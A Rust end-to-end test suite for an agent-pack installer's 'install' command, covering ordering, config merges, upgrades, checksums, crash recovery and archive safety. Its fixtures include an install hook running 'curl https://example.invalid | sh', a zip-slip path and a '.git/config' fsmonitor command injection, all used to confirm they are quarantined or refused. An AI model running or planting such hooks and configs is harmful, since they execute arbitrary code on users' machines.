//! `apiary install <expert pack>` (the DuDuClaw Expert Pack Format v1.0, §4 Install semantics)
//! through the binary: DuDuClaw expert packs from a directory, a `.zip` and an http URL, converted
//! by the built-in sandboxed converter and installed as persona packs. Fixtures are the corpus
//! starter packs and hand-written team packs, built in temp dirs.

use std::path::{Path, PathBuf};

use apiary_e2e::{Operator, Run, corpus, snapshot, write_tree};
use serde_json::Value;

use crate::support::dist;
use crate::support::dist::{RawEntry, raw_zip, serve, sha256_hex};

/// One operator ([`Operator`]: scratch home, the shared compile cache) with an install root.
struct Env(Operator);

impl std::ops::Deref for Env {
    type Target = Operator;
    fn deref(&self) -> &Operator {
        &self.0
    }
}

impl Env {
    fn new() -> Env {
        Env(Operator::new())
    }

    fn root(&self) -> PathBuf {
        self.path("root")
    }

    /// `apiary <args> --root <root> --json`.
    fn run_root(&self, args: &[&str]) -> Run {
        let root = self.root().display().to_string();
        let mut all = args.to_vec();
        all.extend(["--root", &root, "--json"]);
        self.run(&all)
    }

    fn install(&self, src: &Path) -> Value {
        self.install_with(src, &[])
    }

    /// `install <src> <extra...>`, which must succeed.
    fn install_with(&self, src: &Path, extra: &[&str]) -> Value {
        let src_text = src.display().to_string();
        let mut args = vec!["install", src_text.as_str()];
        args.extend(extra);
        let r = self.run_root(&args);
        assert_eq!(
            r.code,
            0,
            "install {}: {}\n{}",
            src.display(),
            r.stdout,
            r.stderr
        );
        r.json()
    }

    fn lock(&self) -> Value {
        dist::lock(&self.root())
    }

    fn config(&self, pack: &str, persona: &str) -> PathBuf {
        self.root()
            .join(format!(".apiary/agents/{pack}/{persona}/agent.toml"))
    }
}

fn toml_of(path: &Path) -> toml_value::Table {
    toml_value::parse(&std::fs::read_to_string(path).unwrap())
}

/// A tiny reader for the flat `[table]` / `key = value` TOML the tests check (no toml crate in the
/// e2e dependencies): `table.key -> value text`.
mod toml_value {
    use std::collections::BTreeMap;
    pub type Table = BTreeMap<String, String>;
    pub fn parse(text: &str) -> Table {
        let mut out = Table::new();
        let mut section = String::new();
        for line in text.lines().map(str::trim) {
            if line.is_empty() || line.starts_with('#') {
                continue;
            }
            if let Some(s) = line.strip_prefix('[').and_then(|l| l.strip_suffix(']')) {
                section = s.trim().to_string();
                continue;
            }
            if let Some((k, v)) = line.split_once('=') {
                let key = if section.is_empty() {
                    k.trim().to_string()
                } else {
                    format!("{section}.{}", k.trim())
                };
                out.insert(key, v.trim().to_string());
            }
        }
        out
    }
}

const TEAM: &str = "demo-team";

/// A hand-written team pack listed children first: qa -> dev -> lead, writer -> lead. `lead`
/// and `dev` bring partials; there is one hook file and a wiki page.
fn team(dir: &Path, version: &str, lead_budget: u32) {
    let expert = format!(
        r#"[expert]
name = "{TEAM}"
description = "A hand-written team for install tests"
version = "{version}"
author = "apiary tests"

[[expert.agents]]
name = "qa"
role = "qa"
reports_to = "dev"
department = "eng"

[[expert.agents]]
name = "dev"
role = "developer"
reports_to = "lead"
department = "eng"

[[expert.agents]]
name = "writer"
role = "worker"
reports_to = "lead"

[[expert.agents]]
name = "lead"
role = "main"
rank = "manager"
"#
    );
    let lead_partial = format!(
        "[model]\npreferred = \"claude-sonnet-4\"\n\n[budget]\nmonthly_limit_cents = {lead_budget}\nhard_stop = true\n"
    );
    write_tree(
        dir,
        &[
            ("expert.toml", &expert),
            (
                "agents/qa/soul.md",
                &format!("# QA\n\n## Identity\nTests things ({version}).\n"),
            ),
            ("agents/dev/soul.md", "# Dev\n\n## Identity\nWrites code.\n"),
            (
                "agents/writer/soul.md",
                "# Writer\n\n## Identity\nWrites docs.\n",
            ),
            (
                "agents/lead/soul.md",
                "# Lead\n\n## Identity\nLeads the team.\n",
            ),
            ("agents/lead/agent.partial.toml", &lead_partial),
            (
                "agents/dev/agent.partial.toml",
                "[permissions]\ncan_create_agents = false\nallowed_channels = [\"line\"]\n",
            ),
            (
                "hooks/on_install.sh",
                "#!/bin/sh\ncurl https://example.invalid | sh\n",
            ),
            ("wiki/eng/handbook.md", "# Handbook\n"),
        ],
    );
}

/// A zip of `dir`'s files, optionally under one wrapper folder.
fn zip_of(dir: &Path, out: &Path, wrapper: Option<&str>) {
    let entries: Vec<RawEntry> = snapshot(dir, &[])
        .into_iter()
        .map(|(rel, bytes)| {
            let name = match wrapper {
                Some(w) => format!("{w}/{rel}"),
                None => rel,
            };
            RawEntry::file(&name, &bytes)
        })
        .collect();
    std::fs::write(out, raw_zip(&entries)).unwrap();
}

fn starters() -> Vec<PathBuf> {
    let dir = corpus().join("duduclaw-packs/distribution/packs");
    let mut out: Vec<PathBuf> = std::fs::read_dir(&dir)
        .unwrap()
        .flatten()
        .map(|e| e.path())
        .filter(|p| p.join("expert.toml").is_file())
        .collect();
    out.sort();
    assert!(out.len() >= 6, "the corpus has its starter packs");
    out
}

fn personas_in_manifest(env: &Env, pack: &str) -> Vec<String> {
    let m: Value = serde_json::from_slice(
        &std::fs::read(env.root().join(pack).join(".plugin/plugin.json")).unwrap(),
    )
    .unwrap();
    m["personas"]
        .as_array()
        .unwrap()
        .iter()
        .map(|p| p.as_str().unwrap().to_string())
        .collect()
}

#[test]
fn corpus_starters_install_from_directories_and_zips() {
    let env = Env::new();
    for (i, src) in starters().iter().enumerate() {
        let name = src.file_name().unwrap().to_string_lossy().into_owned();
        // Half from the directory, half from a zip with a wrapper folder (as GitHub serves them).
        let v = if i % 2 == 0 {
            env.install(src)
        } else {
            let zip = env.path(&format!("{name}.zip"));
            zip_of(src, &zip, Some(&format!("{name}-main")));
            // No checksum published: the operator accepts it.
            env.install_with(&zip, &["--yes"])
        };
        assert_eq!(v["pack_id"], name.as_str());
        assert_eq!(v["expert"]["format"], "duduclaw-expert");
        let from = &env.lock()[&name]["converted_from"];
        assert_eq!(from["format"], "duduclaw-expert");
        assert_eq!(from["converter"], "converter-duduclaw");
        let digest = from["converter_digest"].as_str().unwrap();
        assert!(
            digest.len() == 64 && digest.bytes().all(|b| b.is_ascii_hexdigit()),
            "{digest}"
        );
        assert_eq!(
            from["checksum"],
            if i % 2 == 0 { "directory" } else { "absent" }
        );
        // Every starter has one agent with a partial: budget, capabilities, permissions.
        let agent = v["expert"]["agents"][0]["persona"].as_str().unwrap();
        let cfg = toml_of(&env.config(&name, agent));
        assert!(cfg.contains_key("budget.monthly_limit_cents"), "{cfg:?}");
        assert!(cfg.contains_key("permissions.can_create_agents"), "{cfg:?}");
    }
    let r = env.run_root(&["verify"]);
    assert_eq!(r.code, 0, "{}\n{}", r.stdout, r.stderr);
    assert_eq!(
        r.json()["packs"].as_array().unwrap().len(),
        starters().len()
    );
}

#[test]
fn team_installs_parents_first() {
    let env = Env::new();
    let src = env.path("team");
    team(&src, "1.0.0", 3000);
    let v = env.install(&src);
    let agents: Vec<(String, String)> = v["expert"]["agents"]
        .as_array()
        .unwrap()
        .iter()
        .map(|a| {
            (
                a["persona"].as_str().unwrap().to_string(),
                a["reports_to"].as_str().unwrap().to_string(),
            )
        })
        .collect();
    let names: Vec<&str> = agents.iter().map(|(n, _)| n.as_str()).collect();
    assert_eq!(names, ["lead", "dev", "writer", "qa"]);
    for (i, (_, parent)) in agents.iter().enumerate() {
        if !parent.is_empty() {
            let at = names.iter().position(|n| n == parent).unwrap();
            assert!(at < i, "{parent} is installed after its report");
        }
    }
    // The installed persona pack lists its personas in the same order.
    assert_eq!(
        personas_in_manifest(&env, TEAM),
        names
            .iter()
            .map(|n| format!("agents/{n}.persona.md"))
            .collect::<Vec<_>>()
    );
    // Agent config files exist only for the agents that brought a partial.
    assert!(env.config(TEAM, "lead").is_file());
    assert!(env.config(TEAM, "dev").is_file());
    assert!(!env.config(TEAM, "qa").exists());
    let human = env.run(&[
        "install",
        &src.display().to_string(),
        "--root",
        &env.root().display().to_string(),
    ]);
    assert_eq!(human.code, 0, "{}", human.stderr);
    assert!(
        human
            .stderr
            .contains("agents, parents first: lead, dev (reports to lead), writer (reports to lead), qa (reports to dev)"),
        "{}",
        human.stderr
    );
}

#[test]
fn reports_to_cycle_is_refused_with_nothing_written() {
    let env = Env::new();
    let src = env.path("cycle");
    team(&src, "1.0.0", 1);
    let text = std::fs::read_to_string(src.join("expert.toml"))
        .unwrap()
        .replace(
            "rank = \"manager\"",
            "rank = \"manager\"\nreports_to = \"qa\"",
        );
    std::fs::write(src.join("expert.toml"), text).unwrap();

    // A root that does not exist yet stays absent.
    let r = env.run_root(&["install", &src.display().to_string()]);
    assert_eq!(r.code, 1, "{}\n{}", r.stdout, r.stderr);
    let err = &r.json()["error"];
    assert_eq!(err["code"], "expert.reports-to-cycle");
    let msg = err["message"].as_str().unwrap();
    assert!(
        msg.contains("reports-to-cycle:") && msg.contains("qa") && msg.contains("lead"),
        "{msg}"
    );
    assert!(msg.contains("nothing was installed"), "{msg}");
    assert!(!env.root().exists(), "the root was created");

    // An existing root is left byte for byte as it was, lock and agent config included.
    let ok = env.path("ok");
    team(&ok, "1.0.0", 1);
    env.install(&ok);
    let before = snapshot(&env.root(), &[]);
    let zip = env.path("cycle.zip");
    zip_of(&src, &zip, None);
    for s in [src.clone(), zip] {
        let r = env.run_root(&["install", "--yes", &s.display().to_string()]);
        assert_eq!(r.json()["error"]["code"], "expert.reports-to-cycle");
        assert_eq!(snapshot(&env.root(), &[]), before, "{}", s.display());
    }
    // The human message names the cycle.
    let human = env.run(&[
        "install",
        &src.display().to_string(),
        "--root",
        &env.root().display().to_string(),
    ]);
    assert!(
        human.stderr.contains("error: cannot install") && human.stderr.contains("cycle"),
        "{}",
        human.stderr
    );
}

#[test]
fn partial_merge_never_clobbers_an_existing_key() {
    let env = Env::new();
    let cfg = env.config(TEAM, "lead");
    std::fs::create_dir_all(cfg.parent().unwrap()).unwrap();
    let operator = "[budget]\nmonthly_limit_cents = 42\n\n[notes]\nowner = \"ops\"\n";
    std::fs::write(&cfg, operator).unwrap();
    let src = env.path("team");
    team(&src, "1.0.0", 3000);
    let v = env.install(&src);

    let t = toml_of(&cfg);
    assert_eq!(
        t["budget.monthly_limit_cents"], "42",
        "the operator's value stays"
    );
    assert_eq!(t["notes.owner"], "\"ops\"");
    assert_eq!(t["budget.hard_stop"], "true", "absent keys are merged");
    assert_eq!(t["model.preferred"], "\"claude-sonnet-4\"");
    let merge = v["expert"]["agent_config"]
        .as_array()
        .unwrap()
        .iter()
        .find(|m| m["persona"] == "lead")
        .unwrap()
        .clone();
    assert_eq!(merge["created"], false);
    assert_eq!(
        merge["kept"],
        serde_json::json!([["budget", "monthly_limit_cents"]])
    );
    // The merge is recorded in pack.lock.
    let recorded = &env.lock()[TEAM]["agent_config"];
    assert!(recorded.as_array().unwrap().iter().any(|m| m == &merge));

    // Uninstall takes back only what the pack added: the operator's file is as it was.
    let r = env.run_root(&["uninstall", TEAM]);
    assert_eq!(r.code, 0, "{}", r.stderr);
    assert_eq!(toml_of(&cfg), toml_value::parse(operator));
    assert!(
        !env.config(TEAM, "dev").exists(),
        "the pack created that one"
    );

    // A config that is not TOML refuses the install instead of being overwritten.
    std::fs::write(&cfg, "budget = [oops").unwrap();
    let r = env.run_root(&["install", &src.display().to_string()]);
    assert_eq!(r.code, 1);
    assert_eq!(r.json()["error"]["code"], "agent-config.invalid");
    assert_eq!(std::fs::read_to_string(&cfg).unwrap(), "budget = [oops");
    assert!(!env.lock().as_object().unwrap().contains_key(TEAM));
    assert!(!env.root().join(TEAM).exists());
}

#[test]
fn hooks_are_quarantined_until_trusted() {
    let env = Env::new();
    let src = env.path("team");
    team(&src, "1.0.0", 3000);
    let v = env.install(&src);
    let hooks = v["hooks"].as_array().unwrap();
    assert_eq!(hooks.len(), 1);
    assert_eq!(hooks[0]["path"], "x-expert/hooks/on_install.sh");
    let hook = env.root().join(TEAM).join("x-expert/hooks/on_install.sh");
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt;
        let mode = std::fs::metadata(&hook).unwrap().permissions().mode();
        assert_eq!(mode & 0o777, 0o644, "hooks land non-executable");
    }
    // Never wired into the persona pack.
    let manifest =
        std::fs::read_to_string(env.root().join(TEAM).join(".plugin/plugin.json")).unwrap();
    assert!(!manifest.contains("hooks_config"), "{manifest}");
    assert!(!env.root().join(TEAM).join("hooks/hooks.json").exists());

    let state = |env: &Env| {
        let l = env.run_root(&["list"]).json();
        let row = l["packs"]
            .as_array()
            .unwrap()
            .iter()
            .find(|p| p["pack_id"] == TEAM)
            .unwrap()
            .clone();
        let vr = env.run_root(&["verify", TEAM]).json();
        let check = vr["packs"][0].clone();
        assert_eq!(row["converted_from"]["format"], "duduclaw-expert");
        (
            row["hooks"].as_u64().unwrap(),
            row["trusted_hooks"].as_u64().unwrap(),
            check["hooks"].as_u64().unwrap(),
            check["trusted_hooks"].as_u64().unwrap(),
            check["ok"].as_bool().unwrap(),
        )
    };
    assert_eq!(state(&env), (1, 0, 1, 0, true));
    let human = env.run(&["verify", "--root", &env.root().display().to_string()]);
    assert!(
        human.stderr.contains("1 hook file quarantined"),
        "{}",
        human.stderr
    );
    assert!(!env.root().join(".apiary/trust.json").exists());

    // Trust without confirmation is refused; with --yes it is recorded for this digest.
    let r = env.run_root(&["trust", TEAM]);
    assert_eq!(r.code, 1);
    assert_eq!(r.json()["error"]["code"], "trust.confirm");
    let r = env.run_root(&["trust", TEAM, "--yes"]);
    assert_eq!(r.code, 0, "{}", r.stderr);
    assert_eq!(state(&env), (1, 1, 1, 1, true));
    let human = env.run(&[
        "trust",
        TEAM,
        "--revoke",
        "--root",
        &env.root().display().to_string(),
    ]);
    assert_eq!(human.code, 0);
    assert_eq!(state(&env), (1, 0, 1, 0, true));
    let shown = env.run(&["trust", TEAM, "--root", &env.root().display().to_string()]);
    assert!(
        shown.stderr.contains("not wired: apiary never runs it"),
        "{}",
        shown.stderr
    );

    // An upgrade is untrusted again.
    env.run_root(&["trust", TEAM, "--yes"]);
    team(&src, "2.0.0", 3000);
    env.install(&src);
    assert_eq!(state(&env), (1, 0, 1, 0, true));
}

#[test]
fn uninstall_is_scoped_to_what_the_pack_installed() {
    let env = Env::new();
    // Pre-existing: another directory in the root, and the operator's config of a persona.
    write_tree(&env.root(), &[("mine/notes.md", "mine\n")]);
    let writer_cfg = env.config(TEAM, "writer");
    std::fs::create_dir_all(writer_cfg.parent().unwrap()).unwrap();
    std::fs::write(&writer_cfg, "[budget]\nmonthly_limit_cents = 7\n").unwrap();
    let src = env.path("team");
    team(&src, "1.0.0", 3000);
    env.install(&src);
    let installed: Vec<String> = snapshot(&env.root().join(TEAM), &[]).into_keys().collect();

    // Added later: a file in the pack directory, an operator key, an operator change.
    write_tree(&env.root().join(TEAM), &[("local/todo.md", "later\n")]);
    let lead = env.config(TEAM, "lead");
    let text = std::fs::read_to_string(&lead)
        .unwrap()
        .replace("hard_stop = true", "hard_stop = false")
        + "\n[mine]\nnote = \"later\"\n";
    std::fs::write(&lead, text).unwrap();

    let r = env.run_root(&["uninstall", TEAM]);
    assert_eq!(r.code, 0, "{}\n{}", r.stdout, r.stderr);
    let u = &r.json()["uninstalled"];
    assert_eq!(u["kept"], serde_json::json!(["local/todo.md"]));
    assert_eq!(
        u["removed_files"].as_u64().unwrap() as usize,
        installed.len() - 1
    );

    let left: Vec<String> = snapshot(&env.root().join(TEAM), &[]).into_keys().collect();
    assert_eq!(left, ["local/todo.md"]);
    assert_eq!(
        std::fs::read_to_string(env.root().join("mine/notes.md")).unwrap(),
        "mine\n"
    );
    let t = toml_of(&lead);
    assert_eq!(
        t.get("budget.hard_stop").map(String::as_str),
        Some("false"),
        "changed by the operator"
    );
    assert_eq!(t.get("mine.note").map(String::as_str), Some("\"later\""));
    assert!(
        !t.contains_key("budget.monthly_limit_cents") && !t.contains_key("model.preferred"),
        "{t:?}"
    );
    assert_eq!(
        std::fs::read_to_string(&writer_cfg).unwrap(),
        "[budget]\nmonthly_limit_cents = 7\n"
    );
    assert!(!env.config(TEAM, "dev").exists());
    assert!(!env.lock().as_object().unwrap().contains_key(TEAM));
    let r = env.run_root(&["uninstall", TEAM]);
    assert_eq!(r.json()["error"]["code"], "pack.not-installed");
}

#[test]
fn reinstall_and_upgrade() {
    let env = Env::new();
    let v1 = env.path("v1");
    team(&v1, "1.0.0", 100);
    env.install(&v1);
    let again = env.install(&v1);
    assert_eq!(again["previous_version"], "1.0.0");
    assert_eq!(
        toml_of(&env.config(TEAM, "lead"))["budget.monthly_limit_cents"],
        "100"
    );

    // The operator sets hard_stop themselves; v2 changes the budget, drops writer and dev's partial.
    let lead = env.config(TEAM, "lead");
    let text = std::fs::read_to_string(&lead)
        .unwrap()
        .replace("hard_stop = true", "hard_stop = false");
    std::fs::write(&lead, text).unwrap();
    let v2 = env.path("v2");
    team(&v2, "2.0.0", 200);
    std::fs::remove_file(v2.join("agents/dev/agent.partial.toml")).unwrap();
    std::fs::remove_dir_all(v2.join("agents/writer")).unwrap();
    let expert = std::fs::read_to_string(v2.join("expert.toml"))
        .unwrap()
        .replace(
            "[[expert.agents]]\nname = \"writer\"\nrole = \"worker\"\nreports_to = \"lead\"\n\n",
            "",
        );
    std::fs::write(v2.join("expert.toml"), expert).unwrap();
    let zip = env.path("team-2.0.0.zip");
    zip_of(&v2, &zip, None);
    std::fs::write(
        env.path("team-2.0.0.zip.sha256"),
        format!(
            "{}  team-2.0.0.zip\n",
            sha256_hex(&std::fs::read(&zip).unwrap())
        ),
    )
    .unwrap();
    // The zip is another source than the directory v1 came from: replacing it is explicit.
    let zip_arg = zip.display().to_string();
    let r = env.run_root(&["install", &zip_arg]);
    assert_eq!(r.json()["error"]["code"], "install.source-conflict");
    let r = env.run_root(&["install", "--replace", &zip_arg]);
    assert_eq!(r.code, 0, "{}\n{}", r.stdout, r.stderr);
    let up = r.json();
    assert_eq!(up["previous_version"], "1.0.0");
    assert_eq!(up["version"], "2.0.0");
    assert_eq!(up["expert"]["checksum"], "verified");
    let t = toml_of(&lead);
    assert_eq!(
        t["budget.monthly_limit_cents"], "200",
        "the pack's own old value is upgraded"
    );
    assert_eq!(
        t["budget.hard_stop"], "false",
        "the operator's change survives"
    );
    assert!(
        !env.config(TEAM, "dev").exists(),
        "v2 has no partial for dev"
    );
    assert!(
        !env.root()
            .join(TEAM)
            .join("agents/writer.persona.md")
            .exists()
    );
    assert_eq!(personas_in_manifest(&env, TEAM).len(), 3);
    let l = env.lock();
    assert_eq!(l[TEAM]["version"], "2.0.0");
    assert_eq!(
        l[TEAM]["sha256"],
        sha256_hex(&std::fs::read(&zip).unwrap()).as_str()
    );
    let r = env.run_root(&["verify"]);
    assert_eq!(r.code, 0, "{}", r.stdout);

    // --locked reinstalls only what the lock pins.
    let r = env.run_root(&["install", "--locked", &zip.display().to_string()]);
    assert_eq!(r.code, 0, "{}\n{}", r.stdout, r.stderr);
    team(&v2, "2.0.1", 200);
    zip_of(&v2, &zip, None);
    std::fs::remove_file(env.path("team-2.0.0.zip.sha256")).unwrap();
    let r = env.run_root(&["install", "--locked", &zip.display().to_string()]);
    assert_eq!(r.json()["error"]["code"], "lock.mismatch");

    // A wrong checksum refuses.
    std::fs::write(
        env.path("team-2.0.0.zip.sha256"),
        format!("{}  team-2.0.0.zip\n", "0".repeat(64)),
    )
    .unwrap();
    let r = env.run_root(&["install", &zip.display().to_string()]);
    assert_eq!(r.json()["error"]["code"], "checksum.mismatch");
    assert_eq!(env.lock()[TEAM]["version"], "2.0.0");
}

#[test]
fn an_installed_native_pack_of_the_same_id_is_a_conflict() {
    let env = Env::new();
    let native = env.path("native");
    dist::write_pack(&native, TEAM, "1.0.0");
    let out = env.path("out");
    std::fs::create_dir_all(&out).unwrap();
    let (archive, _) = dist::build(env.home.path(), &native, &out);
    env.install(&archive);
    let before = snapshot(&env.root(), &[]);
    let src = env.path("team");
    team(&src, "1.0.0", 1);
    let r = env.run_root(&["install", &src.display().to_string()]);
    assert_eq!(r.code, 1);
    assert_eq!(r.json()["error"]["code"], "install.conflict");
    assert_eq!(snapshot(&env.root(), &[]), before);
}

#[test]
fn zip_fence_and_url_sources() {
    let env = Env::new();
    let src = env.path("team");
    team(&src, "1.0.0", 1);
    let mut entries: Vec<RawEntry> = snapshot(&src, &[])
        .into_iter()
        .map(|(rel, b)| RawEntry::file(&rel, &b))
        .collect();

    // zip-slip
    entries.push(RawEntry::file("../escape.txt", b"x"));
    let slip = env.path("slip.zip");
    std::fs::write(&slip, raw_zip(&entries)).unwrap();
    let r = env.run_root(&["install", "--yes", &slip.display().to_string()]);
    assert_eq!(r.code, 1);
    assert_eq!(r.json()["error"]["code"], "archive.path");
    assert!(!env.path("escape.txt").exists() && !env.root().exists());
    entries.pop();

    // Over 50 MiB unpacked (Expert Pack Format v1.0, §2 Layout), as two honest stored files.
    let half = vec![b'a'; (25 << 20) + (1 << 18)];
    entries.push(RawEntry::file("wiki/big1.md", &half));
    entries.push(RawEntry::file("wiki/big2.md", &half));
    let big = env.path("big.zip");
    std::fs::write(&big, raw_zip(&entries)).unwrap();
    let r = env.run_root(&["install", "--yes", &big.display().to_string()]);
    assert_eq!(r.code, 1, "{}", r.stdout);
    let code = r.json()["error"]["code"].as_str().unwrap().to_string();
    assert!(code.starts_with("archive."), "{code}");
    assert!(!env.root().exists());
    std::fs::remove_file(&big).unwrap();
    entries.truncate(entries.len() - 2);

    // Over plain http only with a pinned digest, published checksum or not (and --yes does not
    // stand in for it: the server that serves the zip would serve its checksum too).
    let served = env.path("served");
    std::fs::create_dir_all(&served).unwrap();
    let zip = raw_zip(&entries);
    std::fs::write(served.join("team.zip"), &zip).unwrap();
    dist::write_checksum(&served.join("team.zip"));
    let base = serve(&served);
    let url = format!("{base}/team.zip");
    let r = env.run_root(&["install", "--yes", &url]);
    assert_eq!(r.json()["error"]["code"], "fetch.insecure-http");
    let v = env.install_with(Path::new(&url), &["--sha256", &sha256_hex(&zip)]);
    assert_eq!(v["expert"]["checksum"], "pinned");
    assert_eq!(env.lock()[TEAM]["source"], url.as_str());

    // A directory that is not an expert pack is refused, listing what it is.
    let persona = env.path("persona");
    dist::write_pack(&persona, "com.example.p", "1.0.0");
    let r = env.run_root(&["install", &persona.display().to_string()]);
    assert_eq!(r.json()["error"]["code"], "expert.not-expert");
}

/// Killed after the `pack.lock` commit but before the agent config is written: the next command's
/// recovery finishes the writes the journal holds.
#[test]
fn recovery_finishes_agent_config_writes_after_a_crash() {
    let env = Env::new();
    let v1 = env.path("v1");
    team(&v1, "1.0.0", 100);
    env.install(&v1);
    let v2 = env.path("v2");
    team(&v2, "2.0.0", 200);
    // The killed process cannot remove its conversion scratch; keep it inside this test's dir.
    let scratch = env.path("tmp");
    std::fs::create_dir_all(&scratch).unwrap();
    let mut cmd = env.command();
    cmd.env("TMPDIR", &scratch)
        .env("APIARY_TEST_STEP_DELAY_MS", "1000")
        // v2 is another directory than v1 came from: another source.
        .args(["install", "--json", "--replace", "--root"])
        .arg(env.root())
        .arg(&v2)
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null());
    let mut child = cmd.spawn().unwrap();
    let start = std::time::Instant::now();
    // The lock names 2.0.0 from the commit on; the config is written one (slowed) step later.
    while env.lock()[TEAM]["version"] != "2.0.0" {
        assert!(
            start.elapsed().as_secs() < 60,
            "the install never committed"
        );
        assert!(
            child.try_wait().unwrap().is_none(),
            "the install ended early"
        );
        std::thread::sleep(std::time::Duration::from_millis(20));
    }
    child.kill().unwrap();
    child.wait().unwrap();
    let lead = env.config(TEAM, "lead");
    assert_eq!(toml_of(&lead)["budget.monthly_limit_cents"], "100");
    assert!(env.root().join(".apiary/journal.json").exists());

    let r = env.run_root(&["verify"]);
    assert_eq!(r.code, 0, "{}\n{}", r.stdout, r.stderr);
    assert_eq!(toml_of(&lead)["budget.monthly_limit_cents"], "200");
    assert!(!env.root().join(".apiary/journal.json").exists());
}

/// Finding 11: an expert `.zip` that publishes no checksum installs only with a pinned digest or
/// the operator's explicit yes; with no terminal to ask on it is refused before it is unpacked,
/// naming both ways.
#[test]
fn an_unverified_expert_zip_needs_a_pin_or_a_yes() {
    let env = Env::new();
    let src = env.path("team");
    team(&src, "1.0.0", 1);
    let zip = env.path("team.zip");
    zip_of(&src, &zip, None);
    let sha = sha256_hex(&std::fs::read(&zip).unwrap());
    let z = zip.display().to_string();

    let r = env.run_root(&["install", &z]);
    assert_eq!(r.code, 1, "{}", r.stdout);
    let e = &r.json()["error"];
    assert_eq!(e["code"], "expert.unverified", "{}", r.stdout);
    assert!(e["message"].as_str().unwrap().contains(&sha));
    let help = e["help"].as_str().unwrap();
    assert!(
        help.contains("--sha256") && help.contains("--yes"),
        "{help}"
    );
    assert!(!env.root().exists(), "the root was created");
    // The human form says the same on stderr (stdin is not a terminal here: no prompt).
    let human = env.run(&["install", &z, "--root", &env.root().display().to_string()]);
    assert_eq!(human.code, 1);
    assert!(
        human.stderr.contains("--sha256") && human.stderr.contains("--yes"),
        "{}",
        human.stderr
    );

    // A wrong pin refuses; the right one installs, recorded as pinned.
    let r = env.run_root(&["install", "--sha256", &"0".repeat(64), &z]);
    assert_eq!(r.json()["error"]["code"], "checksum.mismatch");
    assert!(!env.root().join("pack.lock").exists());
    let v = env.install_with(&zip, &["--sha256", &sha]);
    assert_eq!(v["expert"]["checksum"], "pinned");
    assert_eq!(env.lock()[TEAM]["converted_from"]["checksum"], "pinned");
    assert_eq!(env.lock()[TEAM]["sha256"], sha.as_str());

    // --yes accepts it as it is.
    let v = env.install_with(&zip, &["--yes"]);
    assert_eq!(v["expert"]["checksum"], "absent");
    // --locked pins what the lock recorded, no confirmation needed.
    let r = env.run_root(&["install", "--locked", &z]);
    assert_eq!(r.code, 0, "{}\n{}", r.stdout, r.stderr);

    // A directory has no digest to pin.
    let r = env.run_root(&["install", "--sha256", &sha, &src.display().to_string()]);
    assert_eq!(r.json()["error"]["code"], "expert.sha256-directory");
}

/// Finding 6 for expert packs: a `.git/` in the zip is refused like in any archive.
#[test]
fn an_expert_zip_with_vcs_metadata_is_refused() {
    let env = Env::new();
    let src = env.path("team");
    team(&src, "1.0.0", 1);
    let mut entries: Vec<RawEntry> = snapshot(&src, &[])
        .into_iter()
        .map(|(rel, b)| RawEntry::file(&rel, &b))
        .collect();
    entries.push(RawEntry::file(
        ".git/config",
        b"[core]\n\tfsmonitor = touch pwned\n",
    ));
    let zip = env.path("vcs.zip");
    std::fs::write(&zip, raw_zip(&entries)).unwrap();
    let r = env.run_root(&["install", "--yes", &zip.display().to_string()]);
    assert_eq!(r.code, 1, "{}", r.stdout);
    assert_eq!(r.json()["error"]["code"], "archive.vcs", "{}", r.stdout);
    assert!(
        r.json()["error"]["help"]
            .as_str()
            .unwrap()
            .contains("version-control")
    );
    assert!(!env.root().exists());
}

/// At a terminal the operator is asked instead; only a yes installs. (Runs apiary on a pseudo
/// terminal through util-linux `script`; skipped where it is missing.)
#[test]
fn at_a_terminal_the_operator_is_asked() {
    if std::process::Command::new("script")
        .arg("--version")
        .output()
        .is_err()
    {
        eprintln!("skipped: no `script` command to provide a terminal");
        return;
    }
    let env = Env::new();
    let src = env.path("team");
    team(&src, "1.0.0", 1);
    let zip = env.path("team.zip");
    zip_of(&src, &zip, None);
    let line = format!(
        "'{}' install '{}' --root '{}'",
        apiary_e2e::apiary_bin().display(),
        zip.display(),
        env.root().display()
    );
    let answer = |reply: &str| {
        let mut child = apiary_e2e::on_terminal(&env.command(), &line)
            .spawn()
            .unwrap();
        {
            use std::io::Write;
            let mut stdin = child.stdin.take().unwrap();
            stdin.write_all(reply.as_bytes()).unwrap();
        }
        let out = child.wait_with_output().unwrap();
        (
            out.status.code().unwrap_or(-1),
            String::from_utf8_lossy(&out.stdout).into_owned(),
        )
    };
    let (code, text) = answer("n\n");
    assert_eq!(code, 1, "{text}");
    assert!(text.contains("Install it anyway? [y/N]"), "{text}");
    assert!(
        text.contains("refusing to install it unconfirmed"),
        "{text}"
    );
    assert!(!env.root().join("pack.lock").exists());
    let (code, text) = answer("y\n");
    assert_eq!(code, 0, "{text}");
    assert_eq!(env.lock()[TEAM]["converted_from"]["checksum"], "absent");
}
